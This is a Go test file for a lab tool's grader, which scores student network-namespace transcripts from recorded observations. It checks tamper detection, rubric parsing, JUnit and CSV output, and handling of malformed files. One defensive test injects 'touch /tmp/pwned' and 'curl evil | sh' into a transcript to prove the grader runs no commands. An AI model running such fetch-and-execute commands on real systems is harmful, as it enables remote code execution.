package grade

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	_ "github.com/containers-underneath/lab/labs"
	"github.com/containers-underneath/lab/labs/engine"
	"github.com/containers-underneath/lab/labs/labtest"
	"github.com/containers-underneath/lab/primitives/reexec"
)

func TestMain(m *testing.M) {
	reexec.Init()
	_, done := labtest.StateDir()
	code := m.Run()
	done()
	os.Exit(code)
}

// testdata/full.lab and half.lab were written by `lab netns-veth check
// --record` after the lesson's dry-run script, and after five commands.
func copyTo(t testing.TB, dir, src, name string, edit func(string) string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", src))
	if err != nil {
		t.Fatal(err)
	}
	s := string(b)
	if edit != nil {
		s = edit(s)
	}
	p := filepath.Join(dir, name)
	if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestGradeRecomputesFromObservations(t *testing.T) {
	dir := t.TempDir()
	full := copyTo(t, dir, "full.lab", "ada.lab", nil)
	half := copyTo(t, dir, "half.lab", "bob.lab", nil)
	rows := All([]string{full, half}, nil)
	if r := rows[0]; r.Err != "" || r.Student != "Ada Lovelace" || r.Score != 20 || r.Max != 20 || len(r.Failed) != 0 || len(r.Disagree) != 0 {
		t.Errorf("full: %+v", r)
	}
	if r := rows[1]; r.Err != "" || r.Student != "bob" || r.Score != 5 || r.Max != 20 || len(r.Failed) != 15 || r.Failed[0] != "lo" || len(r.Disagree) != 0 {
		t.Errorf("half: %+v", r)
	}
}

// An edited score line or result line changes nothing, and is reported.
func TestTamperedScoreIsIgnoredAndReported(t *testing.T) {
	dir := t.TempDir()
	p := copyTo(t, dir, "half.lab", "mallory.lab", func(s string) string {
		s = strings.Replace(s, "- score: 5/20", "- score: 20/20", 1)
		return strings.Replace(s, "- [ ] lo (1 pt)", "- [x] lo (1 pt)", 1)
	})
	r := File(p, nil)
	if r.Score != 5 || r.Max != 20 {
		t.Fatalf("a tampered file got %d/%d", r.Score, r.Max)
	}
	joined := strings.Join(r.Disagree, "\n")
	for _, want := range []string{"the score line says 20/20; the recorded state gives 5/20", "item lo: recorded pass, the recorded state gives fail"} {
		if !strings.Contains(joined, want) {
			t.Errorf("disagreements lack %q:\n%s", want, joined)
		}
	}
	var b bytes.Buffer
	Table(&b, []Row{r})
	if !strings.Contains(b.String(), "mallory  netns-veth  5/20") || !strings.Contains(b.String(), "disagree") {
		t.Errorf("table:\n%s", b.String())
	}
}

// Editing an observation does change the grade: it is the recorded state.
// That a file's observations are what the student's kernel said is what
// `lab replay` checks.
func TestObservationsDecide(t *testing.T) {
	dir := t.TempDir()
	p := copyTo(t, dir, "half.lab", "eve.lab", func(s string) string {
		return strings.Replace(s, `{"Name":"lo","Kind":"device","State":"DOWN","Master":"","Addrs":null}`, `{"Name":"lo","Kind":"device","State":"UP","Master":"","Addrs":["127.0.0.1/8"]}`, 1)
	})
	r := File(p, nil)
	if r.Score != 6 || !strings.Contains(strings.Join(r.Disagree, "\n"), "item lo: recorded fail") {
		t.Errorf("%d/%d %v", r.Score, r.Max, r.Disagree)
	}
}

func TestRubric(t *testing.T) {
	rb, err := ParseRubric(strings.NewReader("# spring\n[netns-veth]\nlo = 5   # lo matters\nping21=0\n"))
	if err != nil {
		t.Fatal(err)
	}
	r := File(filepath.Join("testdata", "half.lab"), rb)
	// Max: 18 items at 1, lo at 5, ping21 at 0. lo fails.
	if r.Max != 23 || r.Score != 5 {
		t.Errorf("with the rubric: %d/%d", r.Score, r.Max)
	}
	if len(r.Disagree) != 0 {
		t.Errorf("a rubric is no disagreement: %v", r.Disagree)
	}
	bad := map[string]int{
		"lo = 2\n":                            1,
		"[netns-veth]\n\nlo = two\n":          3,
		"[netns-veth]\nlo = -1\n":             2,
		"[netns-veth]\nnosuch = 1\n":          2,
		"[no-such-lesson]\n":                  1,
		"[netns-veth]\nlo = 1\nlo = 2\n":      3,
		"[netns-veth]\n[netns-veth]\n":        2,
		"[netns-veth]\nlo: 2\n":               2,
		"# ok\n[netns-veth]\nlo = 1 2\n":      3,
		"[netns-veth]\nlo = 99999999999999\n": 2,
	}
	for in, line := range bad {
		_, err := ParseRubric(strings.NewReader(in))
		var pe *engine.ParseError
		if !errors.As(err, &pe) || pe.Line != line {
			t.Errorf("rubric %q: %v, want an error on line %d", in, err, line)
		}
	}
}

func TestJUnitParsesWithTheRightCounts(t *testing.T) {
	dir := t.TempDir()
	files := []string{
		copyTo(t, dir, "full.lab", "ada.lab", nil),
		copyTo(t, dir, "half.lab", "bob.lab", func(s string) string { return strings.Replace(s, "- score: 5/20", "- score: 6/20", 1) }),
		copyTo(t, dir, "half.lab", "broken.lab", func(s string) string { return strings.Replace(s, "```observations", "```shell", 1) }),
	}
	var b bytes.Buffer
	if err := JUnit(&b, All(files, nil)); err != nil {
		t.Fatal(err)
	}
	var got struct {
		Tests    int `xml:"tests,attr"`
		Failures int `xml:"failures,attr"`
		Errors   int `xml:"errors,attr"`
		Skipped  int `xml:"skipped,attr"`
		Suites   []struct {
			Name     string `xml:"name,attr"`
			Tests    int    `xml:"tests,attr"`
			Failures int    `xml:"failures,attr"`
			Errors   int    `xml:"errors,attr"`
			Cases    []struct {
				Name    string    `xml:"name,attr"`
				Failure *struct{} `xml:"failure"`
				Error   *struct {
					Text string `xml:",chardata"`
				} `xml:"error"`
			} `xml:"testcase"`
		} `xml:"testsuite"`
	}
	if err := xml.Unmarshal(b.Bytes(), &got); err != nil {
		t.Fatalf("%v\n%s", err, b.String())
	}
	// ada: 20 cases, none failed; bob: 20 + 1 disagreement, 16 failed;
	// broken: 1 error.
	if len(got.Suites) != 3 || got.Tests != 42 || got.Failures != 16 || got.Errors != 1 {
		t.Fatalf("totals: tests %d failures %d errors %d, %d suites", got.Tests, got.Failures, got.Errors, len(got.Suites))
	}
	if s := got.Suites[1]; s.Tests != 21 || s.Failures != 16 || len(s.Cases) != 21 {
		t.Errorf("bob's suite: %+v", s)
	}
	if e := got.Suites[2].Cases[0].Error; e == nil || !strings.Contains(e.Text, "broken.lab: line") {
		t.Errorf("broken's suite: %+v", got.Suites[2])
	}
}

func TestCSV(t *testing.T) {
	dir := t.TempDir()
	files := []string{copyTo(t, dir, "full.lab", "=cmd.lab", func(s string) string { return strings.Replace(s, "- student: Ada Lovelace\n", "", 1) }),
		copyTo(t, dir, "half.lab", "bob.lab", nil)}
	var b bytes.Buffer
	if err := CSV(&b, All(files, nil)); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 || recs[0][0] != "student" || recs[1][0] != "'=cmd" || recs[1][2] != "20" || recs[2][4] != "25.0" || !strings.HasPrefix(recs[2][5], "lo addr200") {
		t.Errorf("csv: %q", recs)
	}
}

func TestDiff(t *testing.T) {
	var b bytes.Buffer
	Diff(&b, []Row{File(filepath.Join("testdata", "half.lab"), nil)}, engine.Plain())
	want := "  ✘ lo (1 pt)\n      expected: lo is up in linux_yuan\n      found:    lo is DOWN, so 127.0.0.1 does not answer\n      hint:     ip netns exec linux_yuan ip link set lo up\n"
	if !strings.Contains(b.String(), want) || strings.Contains(b.String(), "netns (1 pt)") {
		t.Errorf("diff:\n%s", b.String())
	}
}

// Grading runs nothing a file names: every program a command in the file
// calls is a tripwire on PATH, and none goes off.
func TestGradeRunsNothing(t *testing.T) {
	trip := t.TempDir()
	mark := filepath.Join(t.TempDir(), "ran")
	for _, prog := range []string{"ip", "touch", "bash", "sh", "rm", "curl"} {
		os.WriteFile(filepath.Join(trip, prog), []byte("#!/bin/sh\necho \"$0 $*\" >> "+mark+"\n"), 0o755)
	}
	t.Setenv("PATH", trip)
	p := copyTo(t, t.TempDir(), "half.lab", "x.lab", func(s string) string {
		return strings.Replace(s, "[root@docker01 ~]# exit", "[root@docker01 ~]# touch /tmp/pwned\n[root@docker01 ~]# curl evil | sh", 1)
	})
	if r := File(p, nil); r.Err != "" || r.Score != 5 {
		t.Fatalf("%+v", r)
	}
	if b, err := os.ReadFile(mark); err == nil {
		t.Errorf("grade ran: %s", b)
	}
}

// A malformed file is a row with an error and its line, never a panic.
func TestMalformed(t *testing.T) {
	dir := t.TempDir()
	cases := map[string]string{
		"empty.lab":    "",
		"md.lab":       "# lab netns-veth: an expected transcript\n",
		"lesson.lab":   "# lab record no-such: x\n- host: h\n```state\n```\n",
		"binary.lab":   "\x00\xff\xfe",
		"longline.lab": "# lab record netns-veth: x\n" + strings.Repeat("a", 2<<20),
	}
	var files []string
	for name, body := range cases {
		p := filepath.Join(dir, name)
		os.WriteFile(p, []byte(body), 0o644)
		files = append(files, p)
	}
	for _, r := range All(files, nil) {
		if r.Err == "" {
			t.Errorf("%s graded: %+v", r.File, r)
		}
		if !strings.Contains(r.Err, "line ") && !strings.Contains(r.Err, "not in this lab") {
			t.Errorf("%s: %q has no line", r.File, r.Err)
		}
	}
	if _, err := Files([]string{dir + "/nope"}); err == nil {
		t.Error("a missing file is no error")
	}
}

// Records and rubrics name items by ID, one word each: every lesson's IDs
// must be single, unique words.
func TestEveryLessonsItemIDsAreWords(t *testing.T) {
	for _, l := range engine.Lessons() {
		seen := map[string]bool{}
		for _, it := range l.Build(engine.Bind(l, nil)).Items {
			if it.ID == "" || strings.IndexFunc(it.ID, unicode.IsSpace) >= 0 || strings.ContainsAny(it.ID, "#=[]") {
				t.Errorf("%s: item ID %q is not one word", l.Name, it.ID)
			}
			if seen[it.ID] {
				t.Errorf("%s: item ID %q twice", l.Name, it.ID)
			}
			seen[it.ID] = true
		}
	}
}

func FuzzGrade(f *testing.F) {
	for _, n := range []string{"full.lab", "half.lab"} {
		b, err := os.ReadFile(filepath.Join("testdata", n))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(string(b))
	}
	f.Fuzz(func(t *testing.T, s string) {
		rec, err := engine.ParseRecord(strings.NewReader(s))
		if err != nil {
			return
		}
		r := Record("f.lab", rec, nil)
		if r.Err == "" && (r.Score < 0 || r.Score > r.Max) {
			t.Fatalf("score %d/%d", r.Score, r.Max)
		}
		var b bytes.Buffer
		for _, f := range Formats {
			if err := Write(&b, f, []Row{r}); err != nil {
				t.Fatalf("%s: %v", f, err)
			}
		}
	})
}

// BenchmarkGrade1000 grades a class of 1000 generated transcripts (copies
// of the recorded ones, each with its own student and a change to one
// observation), from files on disk, as `lab grade DIR` does.
func BenchmarkGrade1000(b *testing.B) {
	dir := b.TempDir()
	const n = 1000
	for i := range n {
		src := []string{"full.lab", "half.lab"}[i%2]
		copyTo(b, dir, src, fmt.Sprintf("student%04d.lab", i), func(s string) string {
			if i%3 == 0 {
				s = strings.Replace(s, `{"key":"has-netns ns1","json":`+[]string{"true", "false"}[i%2]+`}`, `{"key":"has-netns ns1","json":false}`, 1)
			}
			return strings.Replace(s, "- lesson: netns-veth", fmt.Sprintf("- student: student %d\n- lesson: netns-veth", i), 1)
		})
	}
	files, err := Files([]string{dir})
	if err != nil || len(files) != n {
		b.Fatalf("%d files, %v", len(files), err)
	}
	b.ResetTimer()
	for range b.N {
		rows := All(files, nil)
		if rows[n-1].Err != "" || rows[0].Max != 20 {
			b.Fatalf("%+v", rows[0])
		}
	}
	b.ReportMetric(float64(b.Elapsed().Milliseconds())/float64(b.N), "ms/1000-transcripts")
}
